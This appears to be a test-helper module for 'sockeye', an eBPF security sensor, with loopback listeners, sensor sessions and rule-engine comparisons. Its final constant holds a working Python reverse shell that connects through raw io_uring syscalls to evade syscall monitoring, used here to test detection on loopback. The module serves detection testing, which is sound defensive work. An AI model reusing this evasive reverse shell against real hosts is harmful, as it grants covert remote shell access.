/**
 * Kernel tier plumbing: root check that fails loudly in CI, loopback listeners, and a sensor
 * session that collects the events of the processes a test starts.
 */
import { spawn, spawnSync } from "node:child_process";
import { readFileSync, readdirSync, readlinkSync } from "node:fs";
import net from "node:net";
import tls from "node:tls";
import dgram from "node:dgram";
import { Engine, ProcHostView, ProcessTable, builtinRules, openSensorSync, type Finding, type Sensor, type SensorEvent, type SensorOptions } from "sockeye";

export const isRoot = process.getuid?.() === 0;
export const inCI = process.env.CI === "true";

/**
 * describe() for tests that need root. Outside CI a non-root run skips with a printed reason;
 * in CI (root by contract) a non-root run fails instead of proving nothing.
 */
export function kernelTier(): { run: boolean } {
  if (isRoot) return { run: true };
  if (inCI) throw new Error("kernel tier: CI=true but not running as root: these tests must run, not skip");
  console.warn("kernel tier skipped: not root (run 'sudo npm run test:kernel')");
  return { run: false };
}

export const PYTHON = "/usr/bin/python3";

export interface TcpListener {
  port: number;
  close(): Promise<void>;
}

/**
 * A loopback TCP listener. With `farewell`, each connection gets it and is half-closed at
 * once ("exit\n" makes a reverse shell on the other end finish by itself).
 */
export async function tcpListener(host = "127.0.0.1", farewell?: string): Promise<TcpListener> {
  const sockets = new Set<net.Socket>();
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    if (farewell !== undefined) s.end(farewell);
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

export async function udpListener(host = "127.0.0.1"): Promise<TcpListener> {
  const sock = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
  await new Promise<void>((resolve) => sock.bind(0, host, resolve));
  return { port: sock.address().port, close: () => new Promise((resolve) => sock.close(() => resolve())) };
}

/** Runs a command to completion; returns its pid and exit status. */
export async function run(cmd: string, args: string[], input?: string): Promise<{ pid: number; status: number | null; stdout: string; stderr: string }> {
  const child = spawn(cmd, args, { stdio: ["pipe", "pipe", "pipe"] });
  let stdout = "", stderr = "";
  child.stdout.on("data", (d) => (stdout += d));
  child.stderr.on("data", (d) => (stderr += d));
  // A child that exits at once (a refused start) closes its stdin before we write: EPIPE.
  child.stdin.on("error", () => {});
  child.stdin.end(input ?? "");
  // 'exit', not 'close': a shell's grandchildren may hold the pipes open after it is gone.
  const status = await new Promise<number | null>((resolve) => child.on("exit", (code, signal) => resolve(code ?? (signal ? 128 : null))));
  child.stdout.destroy();
  child.stderr.destroy();
  return { pid: child.pid!, status, stdout, stderr };
}

export function python(code: string) {
  return run(PYTHON, ["-c", code]);
}

export class Session {
  readonly events: SensorEvent[] = [];
  private constructor(readonly sensor: Sensor) {
    sensor.subscribe((batch) => this.events.push(...batch));
  }
  static open(options: SensorOptions = {}): Promise<Session> {
    return Promise.resolve(new Session(openSensorSync(options)));
  }
  /**
   * Lets the reader thread deliver what the kernel has already written. Not a bare sleep (a
   * busy or slower host delivers later): a marker process started now must have been seen
   * exiting, twice over, since one read of the two rings can take the marker's exit from one
   * ring after passing the other ring a moment too early. `ms` is a floor, not the bound.
   */
  async settle(ms = 300): Promise<void> {
    const floor = new Promise((r) => setTimeout(r, ms));
    for (let round = 0; round < 2; round++) {
      const marker = spawnSync("/bin/true");
      if (marker.pid === undefined || marker.status !== 0) throw new Error(`settle: /bin/true did not run: ${marker.error?.message}`);
      const deadline = Date.now() + 10_000;
      while (!this.events.some((e) => e.kind === "exit" && e.task.pid === marker.pid)) {
        if (Date.now() > deadline) throw new Error(`settle: the sensor did not report the exit of marker pid ${marker.pid} within 10 s`);
        await new Promise((r) => setTimeout(r, 20));
      }
    }
    await floor;
  }
  of(pid: number): SensorEvent[] {
    return this.events.filter((e) => e.task.pid === pid);
  }
  /** Detaches every program now; the tests read what they need before, so no wait for the last batches. */
  close(): void {
    void this.sensor.close();
  }
}

function bpftoolPrograms(): { id: number; name?: string }[] {
  const out = spawnSync("bpftool", ["prog", "list", "--json"], { encoding: "utf8" });
  if (out.status !== 0) throw new Error(`bpftool prog list failed: ${out.stderr}`);
  return JSON.parse(out.stdout) as { id: number; name?: string }[];
}

export function bpftoolProgramNames(): string[] {
  return bpftoolPrograms().map((p) => p.name ?? "");
}

function bpftoolProgramIds(): number[] {
  return bpftoolPrograms().map((p) => p.id);
}

/**
 * Which of `ids` the kernel still has after up to 4 s: it frees detached programs after an
 * RCU grace period, so give it a moment before calling one left behind.
 */
export async function stillLoaded(ids: readonly number[]): Promise<number[]> {
  let left: number[] = [...ids];
  for (let i = 0; i < 40 && left.length; i++) {
    if (i > 0) await new Promise((r) => setTimeout(r, 100));
    const loaded = new Set(bpftoolProgramIds());
    left = ids.filter((id) => loaded.has(id));
  }
  return left;
}

/**
 * Ids of the BPF programs a process holds open (its bpf-prog fds' fdinfo). Other sensors may
 * be loaded in the same kernel at the same time (other test runs, a daemon): a check that a
 * process left nothing behind must look at that process's own programs, not at every
 * program named handle_*.
 */
export function programIdsHeldBy(pid: number): number[] {
  const ids: number[] = [];
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    let target = "";
    try {
      target = readlinkSync(`/proc/${pid}/fd/${fd}`);
    } catch {
      continue; // closed meanwhile
    }
    if (target !== "anon_inode:bpf-prog") continue;
    const m = /^prog_id:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, "utf8"));
    if (m) ids.push(Number(m[1]));
  }
  return ids;
}

/** A loopback port nobody listens on right now. */
export async function freePort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as net.AddressInfo).port;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

/**
 * Two engines fed the same events of one session: the built-in rules as they come (TRC-101's
 * precise profile) and with TRC-101's tracee profile, each with its own process table, so a
 * test can compare the profiles' verdicts on one real run.
 */
export class TwoProfiles<F extends Finding = Finding> {
  readonly precise: F[] = [];
  readonly tracee: F[] = [];
  readonly preciseEngine: Engine;
  readonly traceeEngine: Engine;

  constructor(session: Session) {
    const tables = [new ProcessTable({ host: new ProcHostView() }), new ProcessTable({ host: new ProcHostView() })] as const;
    for (const t of tables) t.seedFromProc();
    this.preciseEngine = new Engine({ rules: builtinRules(), processes: tables[0] });
    this.traceeEngine = new Engine({ rules: builtinRules({ trc101: { profile: "tracee" } }), processes: tables[1] });
    session.sensor.subscribe((events) => {
      for (const e of events) {
        for (const f of this.preciseEngine.handle(e)) this.precise.push(f as F);
        for (const f of this.traceeEngine.handle(e)) this.tracee.push(f as F);
      }
    });
  }

  /** TRC-101's suppressions in the precise profile, by reason. */
  suppressed(): Record<string, number> {
    return this.preciseEngine.stats().suppressedByRule["TRC-101"] ?? {};
  }
}

/**
 * A listener that, on its first connection, sends `echo` of a marker the shell must compute,
 * waits for the answer (then the next command's, when given several), keeps the shell alive a
 * moment (the rules read /proc of live processes), then sends `exit`. With `tls`, the same over
 * TLS (for openssl s_client).
 */
export async function commandingListener(
  host: string,
  opts: { commands?: [string, string][]; tls?: { key: string; cert: string } } = {},
): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
  const commands = opts.commands ?? [["echo RELAY_$((6*7))", "RELAY_42"]];
  const sockets = new Set<net.Socket>();
  let resolveAnswered!: (ok: boolean) => void;
  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
  const onConnection = (s: net.Socket) => {
    sockets.add(s);
    s.on("error", () => {});
    let got = "";
    let next = 0;
    s.write(`${commands[0]![0]}\n`);
    s.on("data", (d: Buffer) => {
      got += d.toString();
      if (next < commands.length && got.includes(commands[next]![1])) {
        next++;
        if (next < commands.length) s.write(`${commands[next]![0]}\n`);
        else {
          resolveAnswered(true);
          setTimeout(() => s.end("exit\n"), 1500);
        }
      }
    });
    s.on("close", () => resolveAnswered(next === commands.length));
  };
  const server = opts.tls !== undefined ? tls.createServer(opts.tls, onConnection) : net.createServer(onConnection);
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    answered,
    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

/**
 * `sockeye run` from this tree (dist/), for the tests that watch the daemon as a whole; the
 * benches start it the same way (bench/daemon.mjs).
 */
export { CLI, peakRssMb, startDaemon, stoppedLine, type Daemon, type StoppedLine } from "../../bench/daemon.mjs";

/**
 * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
 * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
 * Arguments: host, port. (relay-evasions.test.ts has its own copy; relay-netns.test.ts uses this one.)
 */
export const IO_URING_RELAY = `
import ctypes, mmap, os, socket, struct, subprocess, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
u32 = ctypes.c_uint32
class SqOff(ctypes.Structure):
    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
class CqOff(ctypes.Structure):
    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
class Params(ctypes.Structure):
    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
def uring_connect(sock, host, port):
    p = Params()
    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
s = socket.socket()
uring_connect(s, sys.argv[1], int(sys.argv[2]))
c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def up():
    while True:
        d = os.read(c.stdout.fileno(), 4096)
        if not d: break
        s.sendall(d)
threading.Thread(target=up, daemon=True).start()
while True:
    d = s.recv(4096)
    if not d: break
    c.stdin.write(d); c.stdin.flush()
c.wait()
`;
